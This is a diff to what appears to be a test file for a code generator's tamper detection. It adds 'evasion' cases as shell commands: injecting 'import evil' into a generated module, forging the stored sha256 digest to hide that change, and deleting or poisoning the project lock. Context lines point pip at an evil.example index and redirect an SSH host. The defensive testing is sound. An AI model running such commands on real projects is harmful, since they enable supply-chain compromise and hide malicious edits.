@@ -46,6 +46,8 @@ MILA_OF_A_FORMER_GEN = (
     "sed -i 's/login.server.mila.quebec/former.server.mila.quebec/g' .gen/mila.lock",
 )
 OVERRIDE = "gen site ./site_specs/aster.yaml --user ada --no-project --force --set {}"
+PROJECT = "gen project pipelines --site site_specs/aster.yaml"
+EVIL_MODULE = "echo 'import evil' >> pipelines/src/pipelines/client.py"
 EDIT = "sed -i 's/login.aster.example/login.aster.evil/' ssh/aster.conf"
 
 
@@ -405,6 +407,32 @@ EVASIONS = {
             "mkdir -p tools/check; echo 'runs: {}' > tools/check/action.yml",
             "echo 'gen check' > tools/check/run.sh",
         ),
+    ),
+    "module of gen in a project": Evasion(
+        (EVIL_MODULE,),
+        "pipelines/src/pipelines/client.py: was changed, and is not what gen writes\n"
+        "added import evil",
+        before=(PROJECT,),
+    ),
+    "module of gen in a project, and its digest": Evasion(
+        (
+            "old=$(sha256sum pipelines/src/pipelines/client.py | cut -d' ' -f1)\n"
+            f"{EVIL_MODULE}\n"
+            "new=$(sha256sum pipelines/src/pipelines/client.py | cut -d' ' -f1)\n"
+            'sed -i "s/$old/$new/" pipelines/.gen/project.json',
+        ),
+        "pipelines/.gen/project.json: records digests of modules that gen does not write",
+        before=(PROJECT,),
+    ),
+    "lock of a project deleted": Evasion(
+        ("rm pipelines/.gen/project.json", EVIL_MODULE),
+        "pipelines/.gen/project.json: the lock of the project was removed",
+        before=(PROJECT,),
+    ),
+    "first files of a project, which the next update merges from": Evasion(
+        ("sed -i 's/import /import evil, /' pipelines/.gen/project.json",),
+        "records other first files, and the template is the same",
+        before=(PROJECT,),
     ),
     "index from which gen is installed": Evasion(
         ("echo '--index-url https://evil.example/simple' >> requirements.txt",),
